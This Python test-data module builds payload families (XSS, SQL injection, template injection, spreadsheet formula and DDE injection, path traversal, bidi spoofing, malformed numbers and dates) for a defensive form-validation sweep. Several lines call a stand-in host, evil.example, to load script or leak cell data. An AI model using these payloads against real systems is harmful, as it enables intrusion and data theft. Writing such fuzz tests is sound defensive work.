"""Bad input for the sweep in test_bad_input.py, generated family by family.

Every payload is a str. Unpaired surrogates cannot be encoded as UTF-8, so form_body() sends them
as the raw bytes a misbehaving client would (ED A0 80 and so on), which is what reaches the server.
FAMILIES maps a family's name to its payloads; PAYLOADS is every payload once, in family order.
"""

from urllib.parse import quote_from_bytes

# The longest text field on any form is 5,000 characters; 200 and 300 are common limits too.
FIELD_LIMITS = [20, 100, 150, 200, 300, 500, 2000, 5000]

# Each base payload is also sent inside ordinary text and padded with spaces, as people paste it.
WRAPPERS = ["{}", "Partnership {}", "{} (draft)", "  {}  ", "{}\nsecond line", "Name: {}"]
NUMBER_WRAPPERS = ["{}", " {} ", "{}\t"]


def _wrapped(bases, wrappers=WRAPPERS):
    return [wrapper.format(base) for base in bases for wrapper in wrappers]


def _empty():
    return ["", " ", "  ", "\t", "\n", "\r\n", " \t \n ", "\u00a0", "\u00a0\u00a0", "\u2003"] + [
        "\u3000",
        "\u2028",
        "\u2029",
        "\ufeff",
        "\u200b",
        "\u180e",
        " " * 300,
        "\u00a0" * 201,
        "\t" * 50,
        "\n" * 50,
    ]


def _over_long():
    values = []
    for limit in FIELD_LIMITS:
        values += [
            "x" * (limit + 1),
            "é" * (limit + 1),
            "😀" * (limit + 1),
            "a " * (limit // 2 + 1),
        ]
    values += ["y" * 10_000, "z" * 1_000_000, "<b>" * 3_000, "'" * 10_000]
    return values


def _control_characters():
    c0 = [chr(code) for code in range(0x00, 0x20)] + ["\x7f"]
    c1 = [chr(code) for code in range(0x80, 0xA0)]
    values = []
    for character in c0 + c1:
        values += [character, f"Name{character}here"]
    values += ["\x00" * 10, "abc\x00", "\x00abc", "\x1b[31mred\x1b[0m", "line\x0bbreak\x0cfeed"]
    return values


def _surrogates():
    lone = ["\ud800", "\udbff", "\udc00", "\udfff", "\ud83d", "\ude00"]
    values = []
    for surrogate in lone:
        values += [surrogate, f"Name{surrogate}", f"{surrogate}end", surrogate * 3]
    values += ["\udc00\ud800", "ok\ud800\udc00ok"]  # reversed pair; a pair written as two halves
    return values


def _bidi_and_zero_width():
    marks = [
        "\u202e",  # right-to-left override
        "\u202d",
        "\u202a",
        "\u202b",
        "\u202c",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
        "\u200b",  # zero-width space
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\u034f",
        "\u115f",
        "\u3164",
    ]
    values = []
    for mark in marks:
        values += [mark, f"Invoice{mark}fdp.exe", f"{mark}Admin", f"a{mark}{mark}b"]
    values += ["\u202egnp.exe", "p\u0430ypal", "A\u0301\u0301\u0301\u0301", "Z̷̢͓͔a̶l̷g̵o̸"]
    return values


def _markup():
    bases = [
        "<script>alert('xss-1')</script>",
        '<script src="https://evil.example/x.js"></script>',
        "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
        "<img src=x onerror=alert('xss-2')>",
        '<svg onload=alert("xss-3")>',
        "<iframe src=javascript:alert('xss-4')></iframe>",
        "javascript:alert('xss-5')",
        '"><script>alert("xss-6")</script>',
        "'><script>alert('xss-7')</script>",
        '" onmouseover="alert(\'xss-8\')" x="',
        "' onfocus='alert(8)' autofocus='",
        "</textarea><script>alert('xss-9')</script>",
        "</title><script>alert('xss-10')</script>",
        "<!--",
        "-->",
        "<![CDATA[<script>alert(11)</script>]]>",
        "<style>body{display:none}</style>",
        '<a href="javascript:alert(12)">click</a>',
        "<math><mi xlink:href=\"javascript:alert('xss-13')\">x</mi></math>",
        "&lt;script&gt;alert('already escaped')&lt;/script&gt;",
        "&amp;&quot;&#x27;&#39;",
        "<b>bold</b> & <i>italic</i>",
        "<",
        ">",
        "&",
        '"',
        "'",
        "`${alert(14)}`",
        "</script><script>alert('xss-15')</script>",
        '{"a": "</script>"}',
    ]
    return _wrapped(bases)


def _template():
    bases = [
        "{{ settings.SECRET_KEY }}",
        "{{ request.user.password }}",
        "{% debug %}",
        "{% load log %}{% get_admin_log 10 as log %}",
        "{{ 7*7 }}",
        "${7*7}",
        "#{7*7}",
        "{{",
        "}}",
        "{%",
        "%}",
        "{# comment",
        "{{ '<script>alert(16)</script>'|safe }}",
        "%s%s%s%n",
        "{0}{1}{name}",
        "%(name)s",
    ]
    return _wrapped(bases)


def _sql_and_like():
    bases = [
        "' OR 1=1 --",
        "'; DROP TABLE register_partnership; --",
        '" OR ""="',
        "1; SELECT pg_sleep(5)",
        "' UNION SELECT password FROM auth_user --",
        "%",
        "_",
        "\\",
        "%%",
        "__",
        "\\%",
        "\\_",
        "a%b_c\\d",
        "[a-z]",
        "*",
        "?",
        "'",
        "''",
        "\\'",
        "1' AND '1'='1",
    ]
    return _wrapped(bases)


def _formulas():
    bases = [
        '=HYPERLINK("https://evil.example","Click")',
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
        "+",
        "-",
        "@",
        "=",
        '=DDE("cmd";"/C calc";"!A0")A0',
    ]
    # Formulas are only dangerous at the start of a cell, so they are not wrapped in other text.
    return bases + [f"{base} " for base in bases] + [f"{base}\n" for base in bases]


def _numbers():
    bases = [
        "-1",
        "-0",
        "0",
        "-0.01",
        "-1000000",
        "1e30",
        "1E30",
        "-1e30",
        "1e5",
        "1e-5",
        "1" + "0" * 400,
        "9" * 40,
        "1e400",
        "NaN",
        "nan",
        "Infinity",
        "-Infinity",
        "inf",
        "0x1F",
        "0b101",
        "1_000",
        "١٢٣",  # Arabic-Indic digits
        "１２３",  # full-width digits
        "²",
        "Ⅻ",
        "2147483648",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "4294967296",
        "32768",
        "65536",
    ]
    money = [
        "£1,2,3",
        "1.234",
        "£-5",
        "-£5",
        "£",
        "££1",
        "1,000,000,000",
        "999999999999.99",
        "1,00",
        ",100",
        "100,",
        "1..5",
        "1.5.5",
        "£ 1 000",
        "$100",
        "€100",
        "100p",
        "1.",
        ".5",
        "1 2 3",
        "£1e5",
        "0.001",
        "1,234.567",
        "12,34.56",
    ]
    return _wrapped(bases + money, NUMBER_WRAPPERS)


def _dates():
    typed = [
        "31/02/2026",
        "00/00/0000",
        "01/01/0001",
        "31/12/9999",
        "9999-12-31",
        "0001-01-01",
        "2026-13-45",
        "2026-02-30",
        "29/02/2025",
        "32/01/2026",
        "01/13/2026",
        "1/1/1",
        "26/11/26",
        "26-11-2026",
        "26.11.2026",
        "2026/11/26",
        "26 November 2026",
        "tomorrow",
        "0/0/0",
        "-1/-1/-1",
        "99/99/99999",
        "01/01/1899",
        "01/01/2201",
        "1e3/1/2026",
        "26/11/2026 12:00",
        "2026-11-26T12:00:00Z",
        "١٢/١١/٢٠٢٦",
    ]
    # Day / month / year typed into the three boxes of a GOV.UK date input, joined by "|".
    split = [
        "31|2|2026",
        "0|0|0000",
        "1|1|0001",
        "31|12|9999",
        "45|13|2026",
        "aa|bb|cccc",
        "1|1|26",
        "1|1|20266",
        "-1|1|2026",
        "1|-1|2026",
        "1|1|-2026",
        "1.5|1|2026",
        "1e1|1|2026",
        "||2026",
        "1||",
        "|1|",
        " 1 | 1 | 2026 ",
        "99999999999999999999|1|2026",
        "1|99999999999999999999|2026",
        "1|1|99999999999999999999",
        "٣|٣|٢٠٢٦",
        "1|1|1e4",
    ]
    return typed + [f"split:{value}" for value in split]


def _scores():
    bases = ["0", "6", "-1", "99", "1.5", "3-", "-3", "0-0", "6-6", "5-6", "6-5", "-1-3", "3--1"]
    bases += ["99-99", "a-b", "3-3-3", "3 - 3", "3", "1e1-1", "٣-٣", "３-３", "10-10", "5-5 "]
    return bases


def _forged():
    return [
        "active",
        "approved",
        "closed",
        "submitted",
        "exiting",
        "P-2026-999",
        "P-1999-001",
        "00000000-0000-0000-0000-000000000000",
        "not-a-uuid",
        "999999999",
        "-5",
        "2147483647",
        "true",
        "on",
        "True",
        "1",
        "forged",
    ]


def _ids_and_pages():
    return [
        "0",
        "-1",
        "999999",
        "abc",
        "1e9",
        "1.0",
        " 1",
        "1 ",
        "0x10",
        "__class__",
        "-__class__",
        "__dict__",
        "name__icontains",
        "pk",
        "-pk",
        "?",
        "last",
        "2147483648",
        "99999999999999999999999",
        "null",
        "None",
        "undefined",
        "[]",
        "{}",
        "1,2",
        "1;2",
        "1&page=2",
        "../../etc/passwd",
        "%00",
        "%2e%2e%2f",
        "unknown",
        "UNKNOWN",
    ]


FAMILIES = {
    "empty": _empty(),
    "over_long": _over_long(),
    "control": _control_characters(),
    "surrogates": _surrogates(),
    "bidi_zero_width": _bidi_and_zero_width(),
    "markup": _markup(),
    "template": _template(),
    "sql_like": _sql_and_like(),
    "formula": _formulas(),
    "numbers_money": _numbers(),
    "dates": _dates(),
    "scores": _scores(),
    "forged": _forged(),
    "ids_pages": _ids_and_pages(),
}

PAYLOADS = list(dict.fromkeys(payload for values in FAMILIES.values() for payload in values))

# Payloads that must be refused wherever they are sent (the server cannot store them).
UNSTORABLE_FAMILIES = {"surrogates"}


def family_of(payload):
    return next(name for name, values in FAMILIES.items() if payload in values)


def sample(per_family, *, families=None, offset=0):
    """A representative sample: `per_family` payloads spread evenly over each family."""
    chosen = []
    for name, values in FAMILIES.items():
        if families is not None and name not in families:
            continue
        distinct = list(dict.fromkeys(values))
        step = max(1, len(distinct) // per_family)
        chosen += distinct[offset % step :: step][:per_family]
    return list(dict.fromkeys(chosen))


def is_split_date(payload):
    return payload.startswith("split:")


def split_date(payload):
    """The day, month and year of a split-date payload."""
    return payload.removeprefix("split:").split("|")


def _quote(text):
    # surrogatepass turns a lone surrogate into the (invalid) UTF-8 bytes a client could send.
    return quote_from_bytes(str(text).encode("utf-8", "surrogatepass"), safe="")


def form_body(pairs):
    """An application/x-www-form-urlencoded body for (name, value) pairs, keys repeatable."""
    return "&".join(f"{_quote(name)}={_quote(value)}" for name, value in pairs)
